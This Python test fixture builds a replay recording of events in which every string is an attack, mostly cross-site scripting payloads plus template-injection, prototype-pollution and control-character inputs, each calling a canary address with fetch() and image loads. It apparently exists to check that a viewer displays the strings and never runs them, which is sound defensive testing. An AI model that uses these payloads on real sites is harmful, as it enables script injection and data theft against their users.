"""A recording in which every text is an attack: what a page must show and never run."""

from terms import Atom, bare


def texts(canary):
    """Attacks; each that works runs `hit()` or asks the address `canary` for something."""
    call = f"(top.hit=1,window.hit=1,fetch('{canary}/fetched'),new Image().src='{canary}/image')"
    return [
        f"<script>{call}</script>",
        f"</script><script>{call}</script>",
        f"</style></textarea></title></iframe><script src={canary}/script.js></script>",
        f"<img src=x onerror=\"{call}\">",
        f"<svg/onload={call}>",
        f"\" onmouseover=\"{call}\" autofocus onfocus=\"{call}\" x=\"",
        f"' onmouseover='{call}' autofocus onfocus='{call}' x='",
        f"javascript:{call}",
        f"data:text/html,<script>{call}</script>",
        f"<a href=\"javascript:{call}\" id=\"link\">here</a>",
        f"<iframe srcdoc=\"<script>{call}</script>\"></iframe><object data=\"{canary}/object\"></object>",
        f"<base href=\"{canary}/\"><link rel=stylesheet href=\"{canary}/style.css\"><meta http-equiv=refresh content=\"0;{canary}\">",
        f"<form action=\"{canary}/form\"><input name=a><button id=send>send</button></form>",
        f"{{{{{{{call}}}}}}} {{{{#assigns}}}} ${{{call}}} <%= {call} %> #{{{call}}} {{% raw %}}",
        f"<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={call}&gt;\">",
        "<!--<script><!--", "]]>", "-->", "\u2028\u2029", "\u202egnp.exe\u202c", "a\u0338\u0338<\u0338script>",
        "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f\ufeff\ufffe",
        "\0", "__proto__", "constructor", "hasOwnProperty", "toString",
    ]


def recording(canary):
    """The recording as bare frames. Every attack is an assign, a key, a kind, an event's name and more."""
    attacks = texts(canary)
    events = [(0, Atom("mount"), {Atom("assigns"): {Atom("title"): attacks[0]}})]
    for number, text in enumerate(attacks):
        name = Atom(text) if 0 < len(text.encode()) <= 255 else Atom("long")
        events += [
            (number * 100, Atom("event"), {Atom("name"): text, Atom("params"): {text: text}}),
            (number * 100 + 10, Atom("render"), {Atom("assigns"): {Atom("title"): text, Atom("items"): [text, name]}}),
            (number * 100 + 20, Atom("render"), {Atom("assigns"): {name: {text: text, name: (name, [text])}}}),
            (number * 100 + 30, Atom("params"), {Atom("uri"): text}),
            (number * 100 + 40, Atom("log"), {Atom("level"): Atom("error"), Atom("message"): text}),
            (number * 100 + 50, Atom("component"),
             {Atom("module"): name, Atom("id"): text, Atom("assigns"): {name: text}}),
            (number * 100 + 60, name, {Atom("anything"): text}),
        ]
    end = len(attacks) * 100
    events += [
        (end, Atom("render"), {Atom("assigns"): {Atom("huge"): "<script>" * 131_072, Atom("bytes"): bytes(range(256)) * 64}}),
        (end + 10, Atom("exit"), {Atom("reason"): attacks[3]}),
    ]
    header = {Atom("id"): attacks[3], Atom("view"): "Attack.Live", Atom("url"): attacks[5], Atom("connected_at"): 1_000,
              Atom("client"): {Atom("user_agent"): attacks[0], Atom("device"): attacks[3]}}
    return bare(header, events), len(events)
